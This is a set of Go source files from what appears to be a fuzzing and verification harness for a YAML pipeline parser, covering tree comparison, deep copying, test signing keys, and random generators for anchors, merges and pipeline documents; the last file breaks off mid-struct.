	if o.TimeAsString {
		if a.Kind == KTime && b.Kind == KStr {
			return timeStrEq(a.Time, b.Str)
		}
		if a.Kind == KStr && b.Kind == KTime {
			return timeStrEq(b.Time, a.Str)
		}
	}
	if a.Kind != b.Kind {
		return false
	}
	switch a.Kind {
	case KNull:
		return true
	case KBool:
		return a.Bool == b.Bool
	case KInt:
		return a.Int == b.Int
	case KFloat:
		return a.Float == b.Float || (math.IsNaN(a.Float) && math.IsNaN(b.Float))
	case KStr:
		return a.Str == b.Str
	case KTime:
		return a.Time.Equal(b.Time)
	}
	return false
}

func timeStrEq(t time.Time, s string) bool {
	if s == TimeString(t) {
		return true
	}
	u, err := time.Parse(time.RFC3339Nano, s)
	return err == nil && u.Equal(t)
}

func diff(a, b *Node, o EqOpts, path string) string {
	if a == nil || b == nil {
		if a == b {
			return ""
		}
		return path + ": one side missing"
	}
	if a.IsScalar() || b.IsScalar() {
		if a.IsScalar() && b.IsScalar() && scalarEq(a, b, o) {
			return ""
		}
		return fmt.Sprintf("%s: %s != %s", path, a.Brief(), b.Brief())
	}
	if a.Kind != b.Kind {
		return fmt.Sprintf("%s: kind %s != %s", path, a.Kind, b.Kind)
	}
	if a.Kind == KSeq {
		if len(a.Seq) != len(b.Seq) {
			return fmt.Sprintf("%s: seq length %d != %d", path, len(a.Seq), len(b.Seq))
		}
		for i := range a.Seq {
			if d := diff(a.Seq[i], b.Seq[i], o, fmt.Sprintf("%s[%d]", path, i)); d != "" {
				return d
			}
		}
		return ""
	}
	if a.AbsentOK != nil || b.AbsentOK != nil {
		a, b = dropAbsentOK(a, b), dropAbsentOK(b, a)
	}
	if len(a.Map) != len(b.Map) {
		return fmt.Sprintf("%s: map size %d != %d (keys %q vs %q)", path, len(a.Map), len(b.Map), a.Keys(), b.Keys())
	}
	if o.Ordered || (o.HonourOrderedKeys && (a.OrderedKeys || b.OrderedKeys)) {
		for i := range a.Map {
			if a.Map[i].Key != b.Map[i].Key {
				return fmt.Sprintf("%s: key #%d %q != %q (keys %q vs %q)", path, i, a.Map[i].Key, b.Map[i].Key, a.Keys(), b.Keys())
			}
			if d := diff(a.Map[i].Val, b.Map[i].Val, o, path+"."+strconv.Quote(a.Map[i].Key)); d != "" {
				return d
			}
		}
		return ""
	}
	// Unordered: key multiset must match exactly.
	idx := make(map[string]int, len(b.Map))
	for i, p := range b.Map {
		if _, dup := idx[p.Key]; dup {
			return fmt.Sprintf("%s: duplicate key %q on right side", path, p.Key)
		}
		idx[p.Key] = i
	}
	seen := make(map[string]bool, len(a.Map))
	for _, p := range a.Map {
		if seen[p.Key] {
			return fmt.Sprintf("%s: duplicate key %q on left side", path, p.Key)
		}
		seen[p.Key] = true
		j, ok := idx[p.Key]
		if !ok {
			return fmt.Sprintf("%s: key %q missing on right side (keys %q vs %q)", path, p.Key, a.Keys(), b.Keys())
		}
		if d := diff(p.Val, b.Map[j].Val, o, path+"."+strconv.Quote(p.Key)); d != "" {
			return d
		}
	}
	return ""
}

// IsEmptyValue reports null, an empty mapping or an empty sequence.
func (n *Node) IsEmptyValue() bool {
	return n == nil || n.Kind == KNull || (n.Kind == KMap && len(n.Map) == 0) || (n.Kind == KSeq && len(n.Seq) == 0)
}

// dropAbsentOK returns x without the pairs that other.AbsentOK allows to be
// present-but-empty and that other itself does not have.
func dropAbsentOK(x, other *Node) *Node {
	if other.AbsentOK == nil {
		return x
	}
	var out []Pair
	changed := false
	for _, p := range x.Map {
		if other.AbsentOK[p.Key] && !other.Has(p.Key) && emptyDeep(p.Val) {
			changed = true
			continue
		}
		out = append(out, p)
	}
	if !changed {
		return x
	}
	c := *x
	c.Map = out
	return &c
}

// emptyDeep: null, empty collection, or a mapping whose values are all emptyDeep.
func emptyDeep(n *Node) bool {
	if n.IsEmptyValue() {
		return true
	}
	if n.Kind == KMap {
		for _, p := range n.Map {
			if !emptyDeep(p.Val) {
				return false
			}
		}
		return true
	}
	return false
}

// Brief renders a node compactly for messages.
func (n *Node) Brief() string {
	s := n.String()
	if len(s) > 200 {
		s = s[:200] + "…"
	}
	return n.Kind.String() + ":" + s
}

// String renders the tree in a JSON-like canonical notation (ordered).
func (n *Node) String() string {
	var b strings.Builder
	n.write(&b, map[*Node]bool{})
	return b.String()
}

func (n *Node) write(b *strings.Builder, onPath map[*Node]bool) {
	if n == nil {
		b.WriteString("<nil>")
		return
	}
	switch n.Kind {
	case KNull:
		b.WriteString("null")
	case KBool:
		b.WriteString(strconv.FormatBool(n.Bool))
	case KInt:
		b.WriteString(strconv.FormatInt(n.Int, 10))
	case KFloat:
		b.WriteString(FormatFloat(n.Float))
	case KStr:
		b.WriteString(strconv.Quote(n.Str))
	case KTime:
		b.WriteString("!time " + TimeString(n.Time))
	case KSeq:
		if onPath[n] {
			b.WriteString("<cycle>")
			return
		}
		onPath[n] = true
		b.WriteByte('[')
		for i, e := range n.Seq {
			if i > 0 {
				b.WriteByte(',')
			}
			e.write(b, onPath)
		}
		b.WriteByte(']')
		delete(onPath, n)
	case KMap:
		if onPath[n] {
			b.WriteString("<cycle>")
			return
		}
		onPath[n] = true
		b.WriteByte('{')
		for i, p := range n.Map {
			if i > 0 {
				b.WriteByte(',')
			}
			if p.Merge {
				b.WriteString("<<")
			} else {
				b.WriteString(strconv.Quote(p.Key))
			}
			b.WriteByte(':')
			p.Val.write(b, onPath)
		}
		b.WriteByte('}')
		delete(onPath, n)
	}
}

// FormatFloat formats a float so that it reads back as a float in YAML and
// JSON (always with a '.' or an exponent, or a YAML special).
func FormatFloat(f float64) string {
	switch {
	case math.IsInf(f, 1):
		return ".inf"
	case math.IsInf(f, -1):
		return "-.inf"
	case math.IsNaN(f):
		return ".nan"
	}
	s := strconv.FormatFloat(f, 'g', -1, 64)
	if !strings.ContainsAny(s, ".e") {
		s += ".0"
	}
	return s
}

// SortedCopy returns a deep copy with every mapping sorted by key (used to
// compare against outputs of encoders that sort Go maps).
func (n *Node) SortedCopy() *Node {
	c := n.Clone()
	c.sortRec()
	return c
}

func (n *Node) sortRec() {
	for _, e := range n.Seq {
		e.sortRec()
	}
	if n.Kind == KMap {
		sort.SliceStable(n.Map, func(i, j int) bool { return n.Map[i].Key < n.Map[j].Key })
		for _, p := range n.Map {
			p.Val.sortRec()
		}
	}
}

// SortedCopyShallow returns a shallow copy of a mapping with its pairs sorted by key.
func (n *Node) SortedCopyShallow() *Node {
	c := *n
	c.Map = append([]Pair(nil), n.Map...)
	sort.SliceStable(c.Map, func(i, j int) bool { return c.Map[i].Key < c.Map[j].Key })
	return &c
}

// Walk calls f on every node of a plain tree (pre-order).
func (n *Node) Walk(f func(*Node)) {
	if n == nil {
		return
	}
	f(n)
	for _, e := range n.Seq {
		e.Walk(f)
	}
	for _, p := range n.Map {
		p.Val.Walk(f)
	}
}

// Size is the number of nodes of a plain tree.
func (n *Node) Size() int {
	c := 0
	n.Walk(func(*Node) { c++ })
	return c
}

// Depth is the nesting depth of a plain tree.
func (n *Node) Depth() int {
	if n == nil || n.IsScalar() {
		return 0
	}
	d := 0
	for _, e := range n.Seq {
		if x := e.Depth(); x > d {
			d = x
		}
	}
	for _, p := range n.Map {
		if x := p.Val.Depth(); x > d {
			d = x
		}
	}
	return d + 1
}
