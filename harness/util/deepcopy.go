// Package util has small reflective helpers shared by the monitors.
package util

import (
	"reflect"
)

// DeepCopy returns an exact structural copy of v: pointers, maps, slices and
// interfaces are copied recursively, nil-ness is preserved, shared pointers
// stay shared (and cycles are preserved). Unexported struct fields are copied
// shallowly (by assignment of the whole struct first).
func DeepCopy[T any](v T) T {
	seen := map[uintptr]reflect.Value{}
	out := deepCopyValue(reflect.ValueOf(&v).Elem(), seen)
	return out.Interface().(T)
}

func deepCopyValue(v reflect.Value, seen map[uintptr]reflect.Value) reflect.Value {
	switch v.Kind() {
	case reflect.Pointer:
		if v.IsNil() {
			return reflect.Zero(v.Type())
		}
		if c, ok := seen[v.Pointer()]; ok && c.Type() == v.Type() {
			return c
		}
		n := reflect.New(v.Type().Elem())
		seen[v.Pointer()] = n
		n.Elem().Set(deepCopyValue(v.Elem(), seen))
		return n
	case reflect.Interface:
		if v.IsNil() {
			return reflect.Zero(v.Type())
		}
		c := deepCopyValue(v.Elem(), seen)
		n := reflect.New(v.Type()).Elem()
		n.Set(c)
		return n
	case reflect.Struct:
		n := reflect.New(v.Type()).Elem()
		n.Set(v) // copies unexported fields shallowly
		for i := 0; i < v.NumField(); i++ {
			if !v.Type().Field(i).IsExported() {
				continue
			}
			n.Field(i).Set(deepCopyValue(v.Field(i), seen))
		}
		return n
	case reflect.Slice:
		if v.IsNil() {
			return reflect.Zero(v.Type())
		}
		n := reflect.MakeSlice(v.Type(), v.Len(), v.Len())
		for i := 0; i < v.Len(); i++ {
			n.Index(i).Set(deepCopyValue(v.Index(i), seen))
		}
		return n
	case reflect.Array:
		n := reflect.New(v.Type()).Elem()
		for i := 0; i < v.Len(); i++ {
			n.Index(i).Set(deepCopyValue(v.Index(i), seen))
		}
		return n
	case reflect.Map:
		if v.IsNil() {
			return reflect.Zero(v.Type())
		}
		n := reflect.MakeMapWithSize(v.Type(), v.Len())
		it := v.MapRange()
		for it.Next() {
			n.SetMapIndex(deepCopyValue(it.Key(), seen), deepCopyValue(it.Value(), seen))
		}
		return n
	}
	return v
}
