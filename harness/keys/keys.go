// Package keys generates the key material used by the signing monitors, once
// per process.
package keys

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"fmt"
	"sync"

	"github.com/buildkite/go-pipeline/jwkutil"
	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jwk"
)

// Pair is one signing identity: Signer is what signature.Sign takes, Verifier
// what signature.Verify takes (a jwk.Set, or the crypto.Signer itself).
type Pair struct {
	Kind     string // EdDSA | ES512 | PS512 | ES256-signer
	Alg      string
	KeyID    string
	Signer   SignKey
	Verifier any
	PrivSet  jwk.Set
	PubSet   jwk.Set
}

// SignKey is the key interface of signature.Sign.
type SignKey interface {
	Algorithm() jwa.KeyAlgorithm
}

// ECSigner is an ES256 crypto.Signer with the Algorithm method Sign needs.
type ECSigner struct {
	*ecdsa.PrivateKey
}

// Algorithm returns ES256.
func (ECSigner) Algorithm() jwa.KeyAlgorithm { return jwa.ES256 }

var _ crypto.Signer = ECSigner{}

// NewJWK generates a JWK pair through the library's own generator.
func NewJWK(alg jwa.SignatureAlgorithm, kid string) (*Pair, error) {
	priv, pub, err := jwkutil.NewKeyPair(kid, alg)
	if err != nil {
		return nil, err
	}
	k, ok := priv.Key(0)
	if !ok {
		return nil, fmt.Errorf("no key in generated set")
	}
	return &Pair{Kind: alg.String(), Alg: alg.String(), KeyID: kid, Signer: k, Verifier: pub, PrivSet: priv, PubSet: pub}, nil
}

// NewSigner generates an ES256 crypto.Signer identity.
func NewSigner() (*Pair, error) {
	pk, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	s := ECSigner{pk}
	return &Pair{Kind: "ES256-signer", Alg: "ES256", Signer: s, Verifier: s}, nil
}

var (
	once  sync.Once
	pairs map[string][]*Pair
	gerr  error
)

// Kinds lists the key kinds in a fixed order.
var Kinds = []string{"EdDSA", "ES512", "PS512", "ES256-signer"}

// All returns, per kind, two independent identities (index 0 and 1); the
// JWK ones of the same kind carry the same key id but different material.
func All() (map[string][]*Pair, error) {
	once.Do(func() {
		pairs = map[string][]*Pair{}
		for _, alg := range []jwa.SignatureAlgorithm{jwa.EdDSA, jwa.ES512, jwa.PS512} {
			for i := 0; i < 2; i++ {
				p, err := NewJWK(alg, "key-"+alg.String())
				if err != nil {
					gerr = err
					return
				}
				pairs[alg.String()] = append(pairs[alg.String()], p)
			}
		}
		for i := 0; i < 2; i++ {
			p, err := NewSigner()
			if err != nil {
				gerr = err
				return
			}
			pairs["ES256-signer"] = append(pairs["ES256-signer"], p)
		}
	})
	return pairs, gerr
}
