package gen

import (
	"fmt"
	"math/rand/v2"
	"strconv"

	"verif/doc"
)

// GraphOpts controls the anchor/alias/merge graph generator.
type GraphOpts struct {
	MaxAnchors      int
	Cycles          bool // add back-edges (value cycles, merge cycles, mixed)
	StringKeys      bool // only string keys (enables comparison with yaml.v3's own decoder)
	QuotedMergeKey  bool // now and then an ordinary string key spelled "<<" (quoted: not a merge)
	NoRepeatedMerge bool
	Big             bool // larger mappings and deeper nesting
}

// Graph is a generated anchor graph.
type Graph struct {
	Root        *doc.Node
	Feat        map[string]int
	ValueBack   int // back-edges through values/sequences added
	MergeBack   int // back-edges through merges added
	KeyAliasMap int // aliases of a mapping used as a key (invalid: must be rejected)
}

type ggen struct {
	r     *rand.Rand
	o     GraphOpts
	g     *Graph
	maps  []*doc.Node // completed mapping nodes, in document order
	all   []*doc.Node // completed nodes of any kind
	scal  []*doc.Node // completed scalar nodes usable as key aliases
	path  []*doc.Node // nodes under construction (ancestors)
	reuse int
	uid   int
}

// AnchorGraph generates a mapping-rooted graph with shared nodes (aliases),
// alias keys, merges of every form and - optionally - cycles.
func AnchorGraph(r *rand.Rand, o GraphOpts) *Graph {
	if o.MaxAnchors == 0 {
		o.MaxAnchors = 12
	}
	g := &ggen{r: r, o: o, g: &Graph{Feat: map[string]int{}}}
	g.g.Root = g.mapping(0)
	return g.g
}

// the last four differ from "a" and "b" only by white space around them: different keys
var graphKeys = []string{"a", "b", "c", "d", "e", "f", "g", "h", "a ", " a", "b\t", " "}

func (g *ggen) scalar() *doc.Node {
	g.uid++
	switch g.r.IntN(5) {
	case 0:
		n := doc.I(int64(g.r.IntN(50)))
		if !g.o.StringKeys && g.r.IntN(3) == 0 {
			// a spelling that is not the canonical decimal one (matters when the scalar is used as a key through an alias)
			n.IntForm = []string{fmt.Sprintf("0x%x", n.Int), fmt.Sprintf("0o%o", n.Int), fmt.Sprintf("+%d", n.Int), fmt.Sprintf("0b%b", n.Int)}[g.r.IntN(4)]
		}
		return n
	case 1:
		return doc.B(g.r.IntN(2) == 0)
	case 2:
		return doc.Null()
	}
	return doc.S(fmt.Sprintf("v%d", g.uid))
}

func (g *ggen) value(depth int) *doc.Node {
	// alias to an earlier node?
	if g.reuse < g.o.MaxAnchors && len(g.all) > 0 && g.r.IntN(4) == 0 {
		g.reuse++
		g.g.Feat["alias-as-value"]++
		return g.all[g.r.IntN(len(g.all))]
	}
	// value cycle: alias to an ancestor
	if g.o.Cycles && len(g.path) > 0 && g.r.IntN(25) == 0 {
		g.g.ValueBack++
		g.g.Feat["back-edge:value"]++
		return g.path[g.r.IntN(len(g.path))]
	}
	var n *doc.Node
	switch x := g.r.IntN(10); {
	case x < 5 || depth >= 4 && !g.o.Big || depth >= 7:
		n = g.scalar()
		if n.Kind == doc.KStr || n.Kind == doc.KInt {
			g.scal = append(g.scal, n)
		}
	case x < 7:
		n = doc.L()
		n.Seq = []*doc.Node{}
		g.path = append(g.path, n)
		for i, k := 0, g.r.IntN(4); i < k; i++ {
			n.Seq = append(n.Seq, g.value(depth+1))
		}
		g.path = g.path[:len(g.path)-1]
	default:
		return g.mapping(depth + 1)
	}
	g.all = append(g.all, n)
	return n
}

func (g *ggen) mapping(depth int) *doc.Node {
	n := doc.M()
	n.Map = []doc.Pair{}
	g.path = append(g.path, n)
	used := map[string]bool{}
	npairs := g.r.IntN(6)
	if g.o.Big {
		npairs = g.r.IntN(12)
	}
	merges := 0
	for i := 0; i < npairs; i++ {
		// merge entry?
		if len(g.maps)+len(g.path) > 1 && g.r.IntN(3) == 0 && (merges == 0 || !g.o.NoRepeatedMerge) {
			var src *doc.Node
			pick := func() *doc.Node {
				if g.o.Cycles && g.r.IntN(12) == 0 {
					g.g.MergeBack++
					g.g.Feat["back-edge:merge"]++
					var anc []*doc.Node
					for _, a := range g.path {
						if a.Kind == doc.KMap {
							anc = append(anc, a)
						}
					}
					return anc[g.r.IntN(len(anc))]
				}
				if len(g.maps) == 0 {
					return nil
				}
				return g.maps[g.r.IntN(len(g.maps))]
			}
			switch g.r.IntN(6) {
			case 0, 1, 2:
				src = pick()
				g.g.Feat["merge:single"]++
			case 3, 4:
				a, b := pick(), pick()
				if a != nil && b != nil {
					src = doc.L(a, b)
					if g.r.IntN(3) == 0 {
						if c := pick(); c != nil {
							src.Seq = append(src.Seq, c)
						}
					}
					g.g.Feat["merge:sequence"]++
				}
			default:
				if g.o.Cycles && g.r.IntN(3) == 0 {
					// a merge value that is a sequence containing (an alias to) itself,
					// directly or through a nested sequence: a merge cycle without any mapping on it
					s := doc.L()
					s.Seq = []*doc.Node{}
					if b := pick(); b != nil && g.r.IntN(2) == 0 {
						s.Seq = append(s.Seq, b)
					}
					if g.r.IntN(2) == 0 {
						s.Seq = append(s.Seq, s)
					} else {
						inner := doc.L(s)
						s.Seq = append(s.Seq, inner)
					}
					src = s
					g.g.MergeBack++
					g.g.Feat["back-edge:merge-sequence"]++
					break
				}
				// inline merge mapping (may itself contain merges)
				src = g.mapping(depth + 1)
				g.g.Feat["merge:inline"]++
			}
			if src != nil {
				if merges > 0 {
					g.g.Feat["merge:repeated-key"]++
				}
				merges++
				n.Map = append(n.Map, doc.Pair{Merge: true, Val: src})
				continue
			}
		}
		// explicit key
		var p doc.Pair
		switch x := g.r.IntN(12); {
		case x == 0 && !g.o.StringKeys:
			i := int64(g.r.IntN(4))
			kn := doc.I(i)
			if g.r.IntN(2) == 0 {
				kn.IntForm = fmt.Sprintf("0x%x", i)
			}
			p.Key, p.KeyNode = strconv.FormatInt(i, 10), kn
			g.g.Feat["key:int"]++
		case x == 1 && !g.o.StringKeys:
			b := g.r.IntN(2) == 0
			p.Key, p.KeyNode = strconv.FormatBool(b), doc.B(b)
			g.g.Feat["key:bool"]++
		case x == 2 && len(g.scal) > 0:
			kn := g.scal[g.r.IntN(len(g.scal))]
			if kn.Kind == doc.KInt && g.o.StringKeys {
				p.Key = graphKeys[g.r.IntN(len(graphKeys))]
				break
			}
			if kn.Kind == doc.KInt {
				p.Key = strconv.FormatInt(kn.Int, 10)
			} else {
				p.Key = kn.Str
			}
			p.KeyNode = kn
			g.g.Feat["key:alias"]++
		case x == 3 && g.o.Cycles && len(g.maps) > 0 && g.r.IntN(6) == 0:
			// a mapping used as a key through an alias: invalid, must be rejected without a panic
			p.Key, p.KeyNode = "\x00mapkey", g.maps[g.r.IntN(len(g.maps))]
			g.g.KeyAliasMap++
			g.g.Feat["key:alias-to-mapping"]++
		case x == 4 && g.o.QuotedMergeKey && g.r.IntN(3) == 0:
			p.Key = "<<"
			g.g.Feat["key:quoted-merge-spelling"]++
		default:
			p.Key = graphKeys[g.r.IntN(len(graphKeys))]
		}
		if used[p.Key] {
			continue
		}
		used[p.Key] = true
		p.Val = g.value(depth)
		n.Map = append(n.Map, p)
	}
	g.path = g.path[:len(g.path)-1]
	g.maps = append(g.maps, n)
	g.all = append(g.all, n)
	return n
}
