package gen

import (
	"fmt"
	"math/rand/v2"
	"strconv"

	"verif/doc"
)

// OrderSizes are the mapping sizes the order workload draws from.
var OrderSizes = []int{0, 1, 2, 3, 7, 8, 9, 16, 33, 64, 300}

type ogen struct {
	r       *rand.Rand
	uid     UID
	d       *PipeDoc
	anchors []*doc.Node // mappings usable as merge sources (already placed earlier in the document)
	merges  bool
}

// orderKey draws a key for an order-preserving mapping. It returns the pair
// skeleton (Key = canonical string; KeyNode set for keys written unquoted as
// int/bool).
func (g *ogen) orderKey(used map[string]bool) (doc.Pair, bool) {
	for try := 0; try < 20; try++ {
		var p doc.Pair
		feat := "key:plain"
		switch g.r.IntN(12) {
		case 0: // tricky, verbatim
			k := String(g.r, StringOpts{Tricky: true})
			if k == "<<" {
				k = "<<'"
			}
			if len(k) > 300 {
				k = k[:300]
			}
			p.Key = k
			feat = "key:tricky"
		case 1: // numeric-looking, as a string
			p.Key = Pick(g.r, []string{"1", "0", "-5", "1.5", "0x1f", "1e3", "007", "+3"})
			feat = "key:numeric-string"
		case 2: // boolean / null looking, as a string
			p.Key = Pick(g.r, []string{"true", "false", "yes", "no", "null", "~", "on", "off", "True"})
			feat = "key:bool-string"
		case 3: // unquoted integer key -> canonical decimal
			i := int64(g.r.IntN(5000))
			n := doc.I(i)
			if g.r.IntN(3) == 0 {
				n.IntForm = fmt.Sprintf("0x%x", i)
			}
			p.Key = strconv.FormatInt(i, 10)
			p.KeyNode = n
			feat = "key:unquoted-int"
		case 4: // unquoted boolean key
			b := g.r.IntN(2) == 0
			p.Key = strconv.FormatBool(b)
			p.KeyNode = doc.B(b)
			feat = "key:unquoted-bool"
		case 5:
			p.Key = ""
			feat = "key:empty"
			if g.r.IntN(3) == 0 {
				// the string "<<" as an ordinary (quoted) key: not a merge on the way in (on the way out the YAML
				// emitter does not quote it - known finding K4 - so only the JSON leg is compared for such documents)
				p.Key = "<<"
				feat = "key:quoted-merge-spelling"
			}
		case 6:
			p.Key = Pick(g.r, []string{"é", "日本語", "😀", "a b", "z y", "ß→∀"}) + g.uid.Next()
			feat = "key:unicode"
		default:
			// plain keys in deliberately non-sorted order
			p.Key = Ident(g.r) + "_" + g.uid.Next()
		}
		if !used[p.Key] {
			used[p.Key] = true
			g.d.Feat[feat]++
			return p, true
		}
	}
	return doc.Pair{}, false
}

// orderedMap builds a mapping of about n entries nested up to depth.
func (g *ogen) orderedMap(n, depth int, scalarOnly bool) *doc.Node {
	m := doc.M()
	m.Map = []doc.Pair{}
	used := map[string]bool{}
	mergeAt := -1
	if g.merges && len(g.anchors) > 0 && n > 0 && g.r.IntN(3) == 0 {
		mergeAt = g.r.IntN(n + 1)
	}
	var overrideLater []doc.Pair
	addMerge := func() {
		src := g.anchors[g.r.IntN(len(g.anchors))]
		// explicit overrides of merged keys, written AFTER the merge key and - where the key is an
		// integer - in a different spelling (hex) than the merged one: the key keeps the merge position
		for _, sp := range src.Map {
			if sp.Merge || used[sp.Key] || g.r.IntN(3) != 0 {
				continue
			}
			op := doc.Pair{Key: sp.Key, Val: doc.S("override-" + g.uid.Next())}
			if sp.KeyNode != nil && sp.KeyNode.Kind == doc.KInt {
				kn := doc.I(sp.KeyNode.Int)
				if sp.KeyNode.IntForm == "" {
					kn.IntForm = fmt.Sprintf("0x%x", kn.Int)
				}
				op.KeyNode = kn
			} else if sp.KeyNode != nil {
				op.KeyNode = sp.KeyNode.Clone()
			}
			used[sp.Key] = true
			overrideLater = append(overrideLater, op)
			g.d.Feat["merge:explicit-override-after-merge"]++
		}
		var v *doc.Node = src
		if len(g.anchors) > 1 && g.r.IntN(3) == 0 {
			v = doc.L(src, g.anchors[g.r.IntN(len(g.anchors))])
			g.d.Feat["merge:sequence"]++
		}
		m.Map = append(m.Map, doc.Pair{Merge: true, Val: v})
		g.d.Feat["merge:ordered-position"]++
		g.d.HasSharing = true
	}
	for i := 0; i < n; i++ {
		if i == mergeAt {
			addMerge()
		}
		p, ok := g.orderKey(used)
		if !ok {
			continue
		}
		switch {
		case scalarOnly:
			p.Val = Scalar(g.r, ValueOpts{Str: StringOpts{Tricky: true}, NoTime: true})
			if p.Val.Kind == doc.KFloat {
				p.Val = doc.I(7)
			}
		case depth > 0 && g.r.IntN(4+n/3) == 0:
			p.Val = g.orderedMap(Pick(g.r, []int{0, 1, 2, 3, 8, 9}), depth-1, false)
		case depth > 0 && g.r.IntN(8+n/3) == 0:
			p.Val = doc.L(g.orderedMap(Pick(g.r, []int{1, 2, 9}), depth-1, false), doc.S("x"))
		default:
			p.Val = Scalar(g.r, ValueOpts{Str: StringOpts{Tricky: true}})
		}
		m.Map = append(m.Map, p)
	}
	if mergeAt == n {
		addMerge()
	}
	m.Map = append(m.Map, overrideLater...)
	return m
}

// OrderDoc generates a document aimed at order-preserving positions: the
// pipeline env block, plugins written as one mapping, mappings nested inside
// extras of every step kind and of the pipeline, and unknown steps.
func OrderDoc(r *rand.Rand, merges bool) (*PipeDoc, error) {
	g := &ogen{r: r, d: &PipeDoc{Feat: map[string]int{}}, merges: merges}
	size := func() int { return OrderSizes[r.IntN(len(OrderSizes))] }
	root := doc.M()
	root.Map = []doc.Pair{}
	if merges {
		for i, k := 0, 1+r.IntN(2); i < k; i++ {
			a := g.orderedMap(Pick(r, []int{1, 2, 3, 9}), 1, false)
			// anchors must not carry kind-determining or modelled keys: all keys drawn above are safe
			root.Map = append(root.Map, doc.P("x_anchor_"+g.uid.Next(), a))
			g.anchors = append(g.anchors, a)
		}
	}
	// env block: scalar values only; merge sources for it must be scalar-valued too
	if r.IntN(2) == 0 {
		saved := g.anchors
		g.anchors = nil
		if merges && r.IntN(2) == 0 {
			a := g.orderedMap(Pick(r, []int{1, 3, 9}), 0, true)
			root.Map = append(root.Map, doc.P("x_envanchor_"+g.uid.Next(), a))
			g.anchors = []*doc.Node{a}
		}
		root.Map = append(root.Map, doc.P("env", g.orderedMap(size(), 0, true)))
		g.anchors = saved
		g.d.Feat["position:pipeline-env"]++
	}
	steps := doc.L()
	steps.Seq = []*doc.Node{}
	for i, k := 0, 1+r.IntN(4); i < k; i++ {
		switch r.IntN(6) {
		case 0: // unknown step: the whole mapping keeps its order
			m := g.orderedMap(1+size(), 3, false)
			// make sure no kind-determining key slipped in (keys are uid-suffixed or tricky, never family names)
			steps.Seq = append(steps.Seq, m)
			g.d.HasUnknown = true
			g.d.Feat["position:unknown-step"]++
		case 1:
			st := doc.M(doc.P("wait", doc.Null()), doc.P("meta_"+g.uid.Next(), g.orderedMap(size(), 3, false)))
			steps.Seq = append(steps.Seq, st)
			g.d.Feat["position:wait-contents"]++
		case 2:
			st := doc.M(doc.P("block", doc.S("b")), doc.P("fields_"+g.uid.Next(), doc.L(g.orderedMap(size(), 2, false), g.orderedMap(3, 1, false))))
			steps.Seq = append(steps.Seq, st)
			g.d.Feat["position:input-contents"]++
		case 3:
			st := doc.M(doc.P("trigger", doc.S("t")), doc.P("build", doc.M(doc.P("env", g.orderedMap(size(), 0, true)), doc.P("meta_data", g.orderedMap(size(), 2, false)))))
			steps.Seq = append(steps.Seq, st)
			g.d.Feat["position:trigger-contents"]++
		case 4: // command step: plugins as one mapping (order of the plugin list) + nested extras
			st := doc.M(doc.P("command", doc.S("c")))
			pl := doc.M()
			pl.Map = []doc.Pair{}
			usedSrc := map[string]bool{}
			for j, n := 0, Pick(r, []int{1, 2, 3, 9, 17}); j < n; j++ {
				src, _, _ := PluginSource(r)
				if usedSrc[src] {
					continue
				}
				usedSrc[src] = true
				pl.Map = append(pl.Map, doc.P(src, Pick(r, []*doc.Node{doc.Null(), doc.M(doc.P("k", doc.S("v")))})))
			}
			st.Map = append(st.Map, doc.P("plugins", pl), doc.P("agents_"+g.uid.Next(), g.orderedMap(size(), 3, false)))
			steps.Seq = append(steps.Seq, st)
			g.d.NCommand++
			g.d.Feat["position:plugins-mapping"]++
			g.d.Feat["position:command-extras"]++
		default: // group with nested extras and an inner wait step
			inner := doc.M(doc.P("waiter", doc.Null()), doc.P("m_"+g.uid.Next(), g.orderedMap(size(), 2, false)))
			st := doc.M(doc.P("group", doc.S("g")), doc.P("notify_"+g.uid.Next(), doc.L(g.orderedMap(size(), 2, false))), doc.P("steps", doc.L(inner)))
			steps.Seq = append(steps.Seq, st)
			g.d.Feat["position:group-extras"]++
		}
	}
	root.Map = append(root.Map, doc.P("steps", steps))
	root.Map = append(root.Map, doc.P("notify_"+g.uid.Next(), doc.L(g.orderedMap(size(), 3, false))))
	g.d.Feat["position:pipeline-extras"]++
	g.d.Root = root
	plain, err := doc.ResolveMerges(root, 2000000)
	if err != nil {
		return nil, err
	}
	g.d.Plain = plain
	return g.d, nil
}
