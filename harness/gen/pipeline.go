package gen

import (
	"fmt"
	"math/rand/v2"
	"sort"
	"strings"

	"verif/doc"
)

// PipeOpts configures the pipeline document grammar generator.
type PipeOpts struct {
	Str           StringOpts
	Unknown       bool     // unknown steps (top level only)
	Refs          []string // when set, strings are built around these reference snippets (env interpolation workloads)
	UniqueStrings bool     // every generated string carries a unique literal id
	BlockNames    []string // variable names the pipeline env block may (re)define (referenced by Refs)
	MaxGroupDepth int      // nesting of groups (default 2)
	Signature     bool     // literal `signature` records on command steps
	Coincide      bool     // plant coincidences between independently drawn strings (see coincide)
	NoTime        bool
	SmallInts     bool // integers and floats stay exactly representable and small (signing workloads)
	BigMaps       bool // some Go-map-backed mappings get 9-40 entries
	Sharing       bool // reuse nodes (aliases) and `<<` merges from templates
	FalsySkip     bool // allow skip: false | "" | 0 (known finding K1)
	EmptyPrimary  bool // allow empty key/label next to an alias (known finding K2)
	TrickyKeys    bool // extra keys drawn verbatim from the tricky pool
	MaxSteps      int  // default 6
	// Sweep forces particular feature combinations (see Sweep* fields); -1 = random.
	SweepKeyAliases int // 0..31: bit0 key, bit1 id, bit2 identifier, bit3 label, bit4 name
	SweepCmdForms   int // 0..15: command form (absent,null,scalar,list) x commands form
	SweepPlugins    int // 0..7
	SweepMatrix     int // 0..9
	SweepCache      int // 0..8
}

// DefaultSweeps returns opts with all sweeps disabled.
func (o PipeOpts) NoSweep() PipeOpts {
	o.SweepKeyAliases, o.SweepCmdForms, o.SweepPlugins, o.SweepMatrix, o.SweepCache = -1, -1, -1, -1, -1
	return o
}

// PipeDoc is a generated document.
type PipeDoc struct {
	Root       *doc.Node // graph to render (may contain shared nodes and merge pairs)
	Plain      *doc.Node // the plain tree it stands for
	Feat       map[string]int
	HasUnknown bool
	HasSharing bool
	NCommand   int
	StepCount  int
}

// FeatureVector returns a canonical string of the features used.
func (d *PipeDoc) FeatureVector() string {
	ks := make([]string, 0, len(d.Feat))
	for k := range d.Feat {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return strings.Join(ks, ",")
}

type pgen struct {
	r   *rand.Rand
	o   PipeOpts
	uid UID
	d   *PipeDoc
	// reusable nodes for sharing
